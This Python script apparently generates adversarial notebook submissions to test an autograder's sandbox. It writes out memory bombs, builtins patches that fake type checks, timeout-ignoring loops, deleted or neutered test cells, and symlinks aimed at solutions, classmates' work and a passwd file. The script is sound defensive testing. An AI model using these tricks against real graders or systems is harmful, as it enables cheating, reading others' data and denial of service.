MEMORY_BOMB_GRADUAL = with_answers(l00_ex2='''\
hog = []
try:
    while True:
        hog.append(bytearray(256 << 20))
except MemoryError:
    pass
grabbed = len(hog) * 256
del hog
raise MemoryError(f"grabbed {grabbed} MB before MemoryError")
''')

# -- other inputs ------------------------------------------------------------------------------
def _raw_notebook(**cell_changes) -> str:
    nb = json.loads(nbformat.writes(with_answers()))
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "l00-ex2":
            for key, value in cell_changes.items():
                if key == "nbgrader":
                    cell["metadata"]["nbgrader"] = value
                elif key == "grade_id":
                    cell["metadata"]["nbgrader"]["grade_id"] = value
                else:
                    cell[key] = value
    return json.dumps(nb)


THREATS = {
    # reaching other processes
    "proc-fd-others": PROC_FD_OTHERS,
    "kill-everyone": KILL_EVERYONE,
    "signal-the-grader": SIGNAL_THE_GRADER,
    # writable import paths
    "plant-import-paths": PLANT_IMPORT_PATHS,
    # escaping the sandbox
    "escape-mounts": ESCAPE_MOUNTS,
    "escape-network": ESCAPE_NETWORK,
    "read-solutions": READ_SOLUTIONS,
    "read-classmates": READ_CLASSMATES,
    "write-outside": WRITE_OUTSIDE,
    "fill-scratch": FILL_SCRATCH,
    # seccomp
    "seccomp-fork": SECCOMP_FORK,
    "seccomp-spawn": SECCOMP_SPAWN,
    "seccomp-i386": SECCOMP_I386,
    "seccomp-x32": SECCOMP_X32,
    # forging its own verdict
    "forge-verdict-lines": FORGE_VERDICT_LINES,
    "forge-rpc-reply": FORGE_RPC_REPLY,
    "forge-tampered-list": FORGE_TAMPERED_LIST,
    "rebind-expect-probe": REBIND_EXPECT_PROBE,
    "patch-numpy-jax": PATCH_NUMPY_JAX,
    "patch-builtins": with_answers(l00_ex2=(
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.type = lambda *a: object\n" + WRONG_MEAN)),
    "settrace-hooks": SETTRACE_HOOKS,
    "jax-array-subclass": JAX_ARRAY_SUBCLASS,
    "caller-frames-gc": CALLER_FRAMES_GC,
    "x64-misconception": X64_MISCONCEPTION,
    "rigged-objects": RIGGED_OBJECTS,
    "deleted-test-cell": without(with_answers(l00_ex2=WRONG_MEAN), "l00-ex2-test"),
    "edited-test-cell": edited(with_answers(l00_ex2=WRONG_MEAN), "l00-ex2-test", "pass  # nothing to see here"),
    # leaking hidden tests
    "leak-gc-frames": LEAK_GC_FRAMES,
    "leak-proc-mem": LEAK_PROC_MEM,
    "leak-hidden-inputs": LEAK_HIDDEN_INPUTS,
    # one bad thing ends only itself
    "malformed-line": MALFORMED_LINE,
    "huge-line": HUGE_LINE,
    "unrequested-line": UNREQUESTED_LINE,
    "deep-json-line": DEEP_JSON_LINE,
    "early-reply-then-block": EARLY_REPLY_THEN_BLOCK,
    "infinite-loop": with_answers(l00_ex2="def mean_of(values):\n    while True:\n        pass\n"),
    "timeout-ignored": with_answers(l00_ex2=(
        "import time\ndef mean_of(values):\n    while True:\n        try:\n            time.sleep(0.1)\n"
        "        except BaseException:\n            pass\n")),
    "alarm-cancelled": ALARM_CANCELLED,
    "os-exit": with_answers(l00_ex2="import os\nos._exit(0)\n"),
    "sys-exit": with_answers(l00_ex2="raise SystemExit('bye')\n"),
    "memory-bomb": with_answers(l00_ex2="hog = bytearray(64 * 2**30)\n"),
    "memory-bomb-gradual": MEMORY_BOMB_GRADUAL,
    "memory-outside-rlimit": MEMORY_OUTSIDE_RLIMIT,
    "output-flood": with_answers(l00_ex2=(
        "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 1_000_000)\n" + RIGHT_MEAN)),
    "surrogate-message": with_answers(l00_ex2="raise ValueError('\\ud800 a lone surrogate')\n"),
}

RAW = {
    "malformed-json.ipynb": '{"cells": [{"cell_type": "code", "source": "1 +',
    "wrong-nbformat.ipynb": json.dumps({"nbformat": 99, "nbformat_minor": 0, "metadata": {}, "cells": []}),
    "nbformat-3.ipynb": json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                    "worksheets": [{"cells": [{"cell_type": "code", "input": "1", "outputs": []}]}]}),
    "empty-file.ipynb": "",
    "source-is-number.ipynb": _raw_notebook(source=5),
    "nbgrader-not-dict.ipynb": _raw_notebook(nbgrader="oops"),
    "grade-id-list.ipynb": _raw_notebook(grade_id=["l00-ex2"]),
}
BINARY = {"binary-junk.ipynb": bytes(range(256)) * 64 + b"\x89PNG\r\n\x1a\n\0\0"}


def generated(folder: Path, targets: dict[str, Path]) -> dict[str, Path]:
    """Make the test-time submissions in class folder `folder`; returns student -> notebook.

    targets: where the symbolic links point ("solutions", "classmate", "passwd", "decoy")."""
    made = {}
    for name, target in targets.items():
        student = folder / f"symlink-to-{name}"
        student.mkdir()
        (student / "00-numpy-api.ipynb").symlink_to(target)
        made[student.name] = student / "00-numpy-api.ipynb"
    big = folder / "answer-100mb"
    big.mkdir()
    nb = json.loads(nbformat.writes(with_answers(l00_ex2=RIGHT_MEAN + "# " + "Q" * (100 << 20) + "\n")))
    (big / "00-numpy-api.ipynb").write_text(json.dumps(nb))
    made[big.name] = big / "00-numpy-api.ipynb"
    near = folder / "answer-15mb"
    near.mkdir()
    code = RIGHT_MEAN + "# " + "Q" * (13 << 20) + "\n"  # near the limit: read, sent and run like any answer
    nb = json.loads(nbformat.writes(with_answers(l00_ex2=code)))
    for cell in nb["cells"]:
        cell["source"] = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    (near / "00-numpy-api.ipynb").write_text(json.dumps(nb))
    made[near.name] = near / "00-numpy-api.ipynb"
    odd = os.fsdecode(b"bytes-\xff\xfe")
    (folder / odd).mkdir()
    nbformat.write(with_answers(), folder / odd / "00-numpy-api.ipynb")
    made[odd] = folder / odd / "00-numpy-api.ipynb"
    return made


def main() -> None:
    for stale in HERE.glob("*.ipynb"):
        stale.unlink()
    for name, nb in THREATS.items():
        nbformat.write(nb, HERE / f"{name}.ipynb")
    for name, text in RAW.items():
        (HERE / name).write_text(text, encoding="utf-8")
    for name, data in BINARY.items():
        (HERE / name).write_bytes(data)
    other = nbformat.read(course.released_notebook("01-immutability-at"), as_version=4)
    nbformat.write(other, HERE / "another-lesson.ipynb")


if __name__ == "__main__":
    main()
